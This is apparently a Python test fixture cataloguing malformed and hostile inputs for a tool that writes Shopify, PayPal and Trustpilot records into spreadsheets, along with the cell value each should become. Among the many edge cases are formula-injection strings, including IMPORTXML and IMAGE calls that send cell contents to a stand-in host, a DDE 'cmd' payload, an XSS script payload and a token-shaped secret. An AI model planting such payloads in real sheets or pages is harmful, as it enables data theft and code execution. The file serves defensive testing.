"""What sources may hand us, and what each must become: the numbered list that the project keeps of bad inputs.

A `Text` is put wherever somebody else's words stand: an order's name, tags, item and customer, a refund's note, a
buyer's message, name and deadline, a review and its writer. A `Record` is one whole record with something wrong in it.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from sheets_schema.disputes import DISPUTES
from sheets_schema.model import Tab
from sheets_schema.refunds import REFUNDS
from sheets_schema.sla_board import SLA_BOARD
from sheets_schema.trustpilot import TRUSTPILOT
from tests.support.shopify_wire import bag, transaction_payload
from tests.support.whole_path import case, review, sold


@dataclass(frozen=True)
class Text:
    """`becomes`: what the cell holds, where that is not the text as it came. None: a blank cell."""

    number: int
    text: str
    becomes: str | None = "\0"

    @property
    def shown(self) -> str | None:
        return self.text if self.becomes == "\0" else self.becomes


#: U+2026 and the words that stand for what did not fit.
_CUT = " … (cut here: the text has 50,001 characters)"

TEXTS = (
    Text(1, "=1+1"),
    Text(2, '=IMPORTXML("https://x.test/?"&A2,"//a")'),
    Text(3, '=IMAGE("https://x.test/"&B2)'),
    Text(4, '=HYPERLINK("https://x.test","Refund")'),
    Text(5, "+1-800-555"),
    Text(6, "-5"),
    Text(7, "@SUM(A1)"),
    Text(8, "\t=1"),
    Text(9, "\r=1", "\n=1"),
    Text(10, "\n=1"),
    Text(11, "＝1+1"),
    Text(12, "\u200b=1"),
    Text(13, "'=1"),
    Text(14, '"=1"'),
    Text(15, "=cmd|'/c calc'!A1"),
    *(Text(16, name) for name in ("#0007", "007", "1E5", "1-2", "3/4", "TRUE", "#REF!", "1,5")),
    Text(17, "9007199254740993"),
    Text(18, "12345678901234567890"),
    Text(24, "x" * 50_000),
    Text(24, "x" * 50_001, "x" * (50_000 - len(_CUT)) + _CUT),
    Text(25, "a\ud800b", "a\ufffdb"),
    Text(25, "a\x00b", "ab"),
    Text(25, "\x00", None),
    Text(25, "a\uffffb", "ab"),
    Text(25, "\ufeff=1"),
    Text(26, "Anna \u202egro.live"),
    Text(27, "👩‍👩‍👧 🇦🇺"),
    Text(28, "a" + "\n" * 100 + "b"),
    Text(29, "<img src=x onerror=alert(1)><script>alert(1)</script>"),
    Text(30, "[" * 10_000),
    Text(55, "shpat_" + "0123456789abcdef" * 2),
)


@dataclass(frozen=True)
class Record:
    """`file` is the world's (lum, cases, cards, reviews). It either shows `cells` on `tab` under `key`, or is left
    out with `sentence`. `rows`: how many rows of the tab have keys that begin with `key`.
    """

    number: int
    file: str
    payload: dict[str, Any]
    tab: Tab
    key: str = ""
    cells: Mapping[str, Any] = field(default_factory=dict)
    sentence: str = ""


_numbers = iter(range(2000, 3000))


def _order(number: int, why: str = "", cells: Mapping[str, Any] | None = None, **changes: Any) -> Record:
    own = next(_numbers)
    said = f"Order {own} of Shopify of LUM was left out: {why}." if why else ""
    return Record(number, "lum", sold(own, **changes), SLA_BOARD, f"order:LUM:{own}", cells or {}, said)


def _amount(number: int, amount: Any, currency: str, shown: float | None) -> Record:
    why = "" if shown is not None else "its currentTotalPriceSet is missing or unreadable"
    cells = {} if shown is None else {"value": {"numberValue": shown}, "currency": {"stringValue": currency}}
    return _order(number, why, cells, currentTotalPriceSet=bag(amount, currency))


def _paid(number: int, at: str, shown: float | None) -> Record:
    """The payment's time; the serial number of Manila that it becomes."""
    payment = transaction_payload(1, createdAt=at, processedAt=None)
    why = "" if shown is not None else "its createdAt is missing or unreadable"
    return _order(number, why, {"paid_on": {"numberValue": shown}} if shown else None, transactions=[payment])


def _case(number: int, why: str = "", cells: Mapping[str, Any] | None = None, **about: Any) -> Record:
    own = next(_numbers)
    said = f"PayPal of LUM, VEL: case PP-R-{own} was left out: {why}. Look at it in PayPal." if why else ""
    return Record(number, "cases", case(own, about=about), DISPUTES, f"case:lumen:PP-R-{own}", cells or {}, said)


def _due(number: int, at: str, shown: float | None) -> Record:
    cells = {"final_due": {"numberValue": shown} if shown else {}, "due_as_written": {"stringValue": at}}
    return _case(number, "", cells, seller_response_due_date=at)


def _review(number: int, own: str, key: str, **fields: Any) -> Record:
    key = f"review:0123456789abcdef01234567:{key}"
    return Record(number, "reviews", review(1, id=own, **fields), TRUSTPILOT, key, {"stars": {"numberValue": 1}})


def _big(number: int, own: str) -> Record:
    link = f'=HYPERLINK("https://admin.shopify.com/store/lum/orders/{own}","#{number}")'
    payload = sold(next(_numbers), id=f"gid://shopify/Order/{own}", legacyResourceId=own, name=f"#{number}")
    return Record(number, "lum", payload, SLA_BOARD, f"order:LUM:{own}", {"order": {"formulaValue": link}})


#: What no world's file can hold, put among what a source answers: ids that are none (19, 20), one record twice (21).
NAMELESS_CASES = tuple({**case(1), "dispute_id": own} for own in ("PP-R-19 ", "PP-R-19\u00a0", "", None))
NAMELESS_ORDERS = tuple({**sold(1), "id": own} for own in ("", None))
NAMELESS_REVIEWS = tuple({**review(1), "id": own} for own in ("", None))

RECORDS = (
    _big(17, "9007199254740993"),
    _big(18, "12345678901234567890"),
    _review(19, "ab ", "ab%20"),
    _review(19, "ab\u00a0", "ab%C2%A0"),
    _review(19, "caf\u00e9", "caf%C3%A9"),
    _review(19, "cafe\u0301", "cafe%CC%81"),
    _review(21, "twice", "twice"),
    _review(22, "CASE", "CASE"),
    _review(22, "case", "case"),
    _review(23, "a|b", "a%7Cb"),
    _review(23, r"\E", "%5CE"),
    _review(23, "$1", "%241"),
    _review(23, ".*", ".%2A"),
    _review(23, "☠", "%E2%98%A0"),
    _amount(31, "1e309", "AUD", None),
    _amount(31, "NaN", "AUD", None),
    _amount(31, "Infinity", "AUD", None),
    _amount(31, "0.1+0.2", "AUD", None),
    _amount(31, "¥1,000", "AUD", None),
    _amount(31, "1.234,56", "AUD", None),
    _amount(31, "-0", "AUD", 0),
    _amount(31, "0.30000000000000004", "AUD", 0.3),
    _case(31, "its disputed amount is not a number", dispute_amount={"currency_code": "AUD", "value": "1e309"}),
    _case(31, "its disputed amount is not a number", dispute_amount={"currency_code": "AUD", "value": "¥1,000"}),
    _case(31, "", {"amount": {"numberValue": 0}}, dispute_amount={"currency_code": "AUD", "value": "-0"}),
    _amount(32, "10.00", "XXX", 10),
    _amount(32, "1.234", "KWD", 1.234),
    _case(32, "", {"amount": {"numberValue": 1.234}}, dispute_amount={"currency_code": "KWD", "value": "1.234"}),
    _paid(33, "1899-12-30T00:00:00Z", None),
    _paid(33, "2038-01-19T03:14:08Z", 50424 + (11 * 3600 + 14 * 60 + 8) / 86400),
    _paid(33, "9999-12-31T23:59:59Z", None),
    _paid(33, "2026-10-20T10:00:00", None),
    _paid(33, "2026-10-20T10:00:00+14:00", 46315 + 4 / 24),
    _paid(33, "2026-10-04T02:30:00+10:00", 46299 + 0.5 / 24),
    _paid(33, "2028-02-29T12:00:00Z", 46812 + 20 / 24),
    _paid(33, "2026-02-29T12:00:00Z", None),
    _paid(33, "0000-00-00", None),
    _due(33, "9999-12-31T00:00:00.000Z", None),
    _due(33, "0000-00-00", None),
    _due(33, "2026-11-20T10:00:00", 46346 + 18 / 24),
    _due(33, "2026-11-20T10:00:00.000+14:00", 46346 + 4 / 24),
    _order(34, updatedAt="2031-01-01T00:00:00Z"),
    _order(34, updatedAt="2026-10-01T00:00:00Z"),
    _order(34, updatedAt="2026-10-01T00:00:00Z"),
)

#: Where a `Text` is looked for: the tab, its column, what stands before the text.
PLACES = (
    (REFUNDS, "shopify_note"),
    (SLA_BOARD, "tags"),
    (SLA_BOARD, "items"),
    (DISPUTES, "due_as_written"),
    (TRUSTPILOT, "full_text"),
)
